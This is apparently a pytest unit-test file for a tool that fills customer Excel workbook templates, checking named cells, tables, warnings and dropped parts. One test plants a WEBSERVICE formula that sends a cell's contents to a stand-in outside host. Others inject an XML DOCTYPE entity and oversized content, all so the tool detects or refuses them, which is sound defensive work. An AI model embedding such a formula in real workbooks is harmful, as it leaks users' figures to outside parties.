"""What is said of a customer's own workbook before it is filled, and what keeps it from being."""

from dataclasses import replace

import pytest

from reviewer_audit.errors import OutputError
from tests.unit.render import templates
from tests.unit.render.templates import look, queues, write


@pytest.fixture
def rich(tmp_path):
    return templates.rich(tmp_path / "ours.xlsx")


@pytest.mark.parametrize("what", ["cell", "chart", "merged", "name"])
def test_that_nothing_below_a_table_is_written_over(tmp_path, what):
    def change(book):
        sheet = book["Card"]
        if what == "cell":
            sheet["C15"] = "keep me"
        elif what == "chart":
            sheet._charts[0].anchor = "B15"
        elif what == "merged":
            sheet.merge_cells("A14:B14")
        else:
            templates.named(book, "ra_round", "Card!$D$14")

    path = templates.rich(tmp_path / "full.xlsx", change)
    assert look(path, queues(2)).errors == ()
    (error,) = look(path, queues(9)).errors
    assert "ra_slices_queue needs 9 rows" in error


@pytest.mark.parametrize(
    ("name", "place", "said"),
    [
        ("ra_acuracy", "Card!$H$9", "ra_acuracy is none of the names"),
        ("ra_errors", "Card!$H$9", "is the name of a table"),
        ("ra_round", "Card!#REF!", "names no cell"),
        ("ra_round", "'Gone'!$A$1", "names no cell"),
        ("ra_round", '"a text"', "names no cell"),
        ("ra_round", "Card!$H$4:$I$5", "names several cells"),
        ("ra_round", "Card!$F$3", "holds a formula"),
    ],
)
def test_that_a_wrong_name_is_an_error_and_never_guessed(tmp_path, name, place, said):
    path = templates.rich(tmp_path / "wrong.xlsx", lambda book: templates.named(book, name, place))
    (error,) = look(path, queues(2)).errors
    assert said in error


def test_that_a_merged_cell_can_be_named_whole(tmp_path):
    path = templates.rich(
        tmp_path / "merged.xlsx", lambda book: templates.named(book, "ra_round", "Card!$A$5:$D$5")
    )
    values = replace(queues(2), figures={"ra_round": "Week 37"})
    assert look(path, values).errors == ()
    assert templates.cells_of(write(path, values))["A5"].value == "Week 37"


def test_that_a_wrong_table_is_an_error_and_a_column_of_ones_own_stays_empty(tmp_path):
    def rename(text):
        return text.replace('"ra_slices_queue"', '"ra_queues"')

    path = templates.rich(tmp_path / "t.xlsx")
    templates.rewrite(path, {"xl/tables/table1.xml": rename})
    assert look(path, queues(2)).errors == ("ra_queues is none of the tables that can be filled.",)
    path = templates.rich(tmp_path / "u.xlsx")
    templates.rewrite(
        path, {"xl/tables/table1.xml": lambda t: t.replace('"Accuracy high"', '"Upper"')}
    )
    seen = look(path, queues(2))
    assert seen.errors == ()
    assert any("Upper names no field" in one for one in seen.warnings)
    assert any(
        "accuracy stands in the table ra_slices_queue without accuracy_high" in one
        for one in seen.warnings
    )
    assert templates.cells_of(write(path, queues(2)))["D11"].value is None


def test_that_a_rate_without_n_and_interval_is_warned_of(tmp_path):
    def change(book):
        del book.defined_names["ra_accuracy_n"]
        templates.named(book, "ra_accuracy_low", "Notes!$B$2")

    path = templates.rich(tmp_path / "alone.xlsx", change)
    (said,) = look(path, queues(2)).warnings
    assert said == "ra_accuracy stands on the sheet Card without ra_accuracy_n, ra_accuracy_low."
    whole = templates.rich(tmp_path / "whole.xlsx")
    assert look(whole, queues(2)).warnings == ()


def test_that_what_does_not_follow_is_named_before(tmp_path, rich):
    assert look(rich, queues(2)).losses == ()
    assert "1 chart" in look(rich, queues(2)).kept
    assert "1 picture" in look(rich, queues(2)).kept
    assert "1 shape" in look(rich, queues(2)).kept
    odd = {
        "xl/pivotCache/pivotCacheRecords1.xml": "Pivot tables",
        "xl/vbaProject.bin": "Macros",
        "xl/externalLinks/externalLink1.xml": "other workbooks",
        "xl/slicers/slicer1.xml": "Slicers",
        "xl/connections.xml": "Queries",
        "xl/embeddings/oleObject1.bin": "embedded objects",
        "xl/revisions/revisionLog1.xml": "history",
        "_xmlsignatures/sig1.xml": "signature",
    }
    templates.rewrite(rich, {}, dict.fromkeys(odd, b"<x/>"))
    losses = look(rich, queues(2)).losses
    assert len(losses) == len(odd)
    for word in odd.values():
        assert any(word in text for text in losses), word
    after = templates.parts_of(write(rich, queues(2)))
    assert "_xmlsignatures/sig1.xml" not in after
    assert "xl/vbaProject.bin" in after


def test_that_a_formula_that_sends_figures_elsewhere_is_named(tmp_path):
    def change(book):
        book["Card"]["H5"] = '=_xlfn.WEBSERVICE("http://example.invalid/?"&B3)'

    path = templates.rich(tmp_path / "sends.xlsx", change)
    assert any("Card!H5" in text for text in look(path, queues(2)).losses)


def test_that_numbers_of_an_open_round_want_their_stamp(tmp_path, rich):
    path = templates.rich(tmp_path / "x.xlsx", lambda book: book.defined_names.pop("ra_stamp"))
    assert any("ra_stamp" in text for text in look(path, queues(2), provisional=True).losses)
    assert look(path, queues(2)).losses == ()
    assert look(rich, queues(2), provisional=True).losses == ()


def test_that_a_document_type_is_refused(rich):
    templates.rewrite(
        rich,
        {
            "xl/worksheets/sheet1.xml": lambda t: (
                '<!DOCTYPE x [<!ENTITY a "b">]>' + t.partition("?>")[2]
            )
        },
    )
    with pytest.raises(OutputError, match="sheet1"):
        look(rich, queues(2))


def test_that_a_broken_part_is_an_error_in_words(rich):
    templates.rewrite(rich, {"xl/tables/table1.xml": lambda t: t.replace("A10:F12", "nowhere")})
    with pytest.raises(OutputError, match="cannot be read as a workbook"):
        look(rich, queues(2))


def test_that_a_place_that_is_no_number_is_an_error_in_words(rich):
    wrong = {"xl/drawings/drawing1.xml": lambda t: t.replace("<col>8</col>", "<col>eight</col>")}
    templates.rewrite(rich, wrong)
    with pytest.raises(OutputError, match="cannot be read as a workbook"):
        look(rich, queues(9))


def test_that_a_workbook_that_unpacks_to_too_much_is_refused(rich, monkeypatch):
    monkeypatch.setattr("reviewer_audit.render.package.MOST_XML", 5_000)
    with pytest.raises(OutputError, match="too large"):
        look(rich, queues(2))
